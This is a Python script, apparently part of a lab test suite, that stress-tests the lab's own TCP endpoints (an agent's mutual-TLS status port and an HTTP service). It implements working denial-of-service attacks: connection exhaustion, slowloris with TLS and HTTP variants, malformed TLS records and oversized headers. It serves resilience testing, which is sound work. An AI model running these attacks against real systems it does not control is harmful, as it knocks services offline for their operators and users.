#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""endpoint-attack.py MODE ...: attacks on a TCP endpoint (the agent's
mutual-TLS status port, dsr-checkd's HTTP port), for the lab's attack rows.

  idle HOST PORT N SECS OUT
      N TCP connections opened as fast as the kernel takes them and never
      written to, held SECS seconds.  Every second OUT gets
      "opened O open K closed C" (C: closed by the server).
  slow HOST PORT N SECS OUT KIND
      slowloris: N connections, each sending one byte a second of a request
      that never ends (KIND tls: a TLS ClientHello record header announcing
      16 KiB; http: "GET / HTTP/1.1" and an endless header), for SECS
      seconds.  OUT as for idle, plus "first_close_s F" (seconds from the
      first byte to the server's first close).
  garbage HOST PORT N OUT
      N connections, each sending 4 KiB that are not TLS (random bytes after
      a TLS record header of a made-up type); OUT: "sent N closed C within
      5 s".
  bighead HOST PORT BYTES [CA CERT KEY]
      one request with BYTES of header lines (mutual TLS when CA CERT KEY
      are given); prints the server's status line, or "closed" when it
      closed without one, and how many bytes it took before that.
"""
import os, resource, select, socket, ssl, sys, time


def raise_nofile(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, n + 64)), hard))


def open_many(host, port, n):
    """N non-blocking connects, registered with an epoll; returns (ep, socks)."""
    raise_nofile(n)
    ep = select.epoll()
    socks = {}
    for _ in range(n):
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            continue
        socks[s.fileno()] = s
        ep.register(s.fileno(), select.EPOLLIN | select.EPOLLRDHUP)
    return ep, socks


def reap(ep, socks, timeout):
    """Close the connections the server closed; returns how many."""
    closed = 0
    for fd, ev in ep.poll(timeout):
        s = socks.get(fd)
        if s is None:
            continue
        try:
            data = s.recv(4096)
        except BlockingIOError:
            continue
        except OSError:
            data = b""
        if not data:
            ep.unregister(fd)
            s.close()
            del socks[fd]
            closed += 1
    return closed


def report(out, text):
    with open(out + ".tmp", "w") as f:
        f.write(text + "\n")
    os.replace(out + ".tmp", out)


def idle(host, port, n, secs, out):
    ep, socks = open_many(host, port, n)
    opened, closed, end = len(socks), 0, time.time() + secs
    while time.time() < end:
        closed += reap(ep, socks, 1.0)
        report(out, "opened %d open %d closed %d" % (opened, len(socks), closed))


def slow(host, port, n, secs, out, kind):
    if kind == "tls":
        msg = bytes([0x16, 0x03, 0x01, 0x40, 0x00]) + b"\x01" * 4096
    else:
        msg = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 8192
    ep, socks = open_many(host, port, n)
    opened, closed, first, t0 = len(socks), 0, None, time.time()
    end, i = t0 + secs, 0
    while time.time() < end:
        for fd, s in list(socks.items()):
            try:
                s.send(msg[i % len(msg):i % len(msg) + 1])
            except (BlockingIOError, OSError):
                pass
        i += 1
        tick = time.time() + 1.0
        while time.time() < tick:
            c = reap(ep, socks, max(0.0, tick - time.time()))
            if c and first is None:
                first = time.time() - t0
            closed += c
        report(out, "opened %d open %d closed %d first_close_s %s" %
               (opened, len(socks), closed, "%.1f" % first if first is not None else "-"))


def garbage(host, port, n, out):
    ep, socks = open_many(host, port, n)
    time.sleep(0.5)
    junk = bytes([0x63, 0x03, 0x03, 0x10, 0x00]) + os.urandom(4091)
    sent = 0
    for s in socks.values():
        try:
            s.send(junk)
            sent += 1
        except OSError:
            pass
    closed, end = 0, time.time() + 5
    while time.time() < end and socks:
        closed += reap(ep, socks, 0.2)
    report(out, "sent %d closed %d within 5 s" % (sent, closed))


def bighead(host, port, nbytes, tls):
    raw = socket.create_connection((host, port), timeout=10)
    s = raw
    if tls:
        ctx = ssl.create_default_context(cafile=tls[0])
        ctx.load_cert_chain(tls[1], tls[2])
        ctx.check_hostname = False
        s = ctx.wrap_socket(raw, server_hostname=host)
    line = b"X-Big: " + b"b" * 1000 + b"\r\n"
    head = b"GET /v1/status HTTP/1.1\r\nHost: x\r\n"
    sent = 0
    try:
        s.sendall(head)
        while sent < nbytes:
            s.sendall(line)
            sent += len(line)
        s.sendall(b"\r\n")
    except (OSError, ssl.SSLError):
        pass
    try:
        data = s.recv(4096)
    except (OSError, ssl.SSLError):
        data = b""
    first = data.split(b"\r\n", 1)[0].decode("latin-1") if data else "closed"
    print("%s after %d bytes of headers" % (first, sent))


mode, a = sys.argv[1], sys.argv[2:]
if mode == "idle":
    idle(a[0], int(a[1]), int(a[2]), float(a[3]), a[4])
elif mode == "slow":
    slow(a[0], int(a[1]), int(a[2]), float(a[3]), a[4], a[5])
elif mode == "garbage":
    garbage(a[0], int(a[1]), int(a[2]), a[3])
elif mode == "bighead":
    bighead(a[0], int(a[1]), int(a[2]), a[3:6] if len(a) >= 6 else None)
else:
    sys.exit("endpoint-attack.py: unknown mode " + mode)
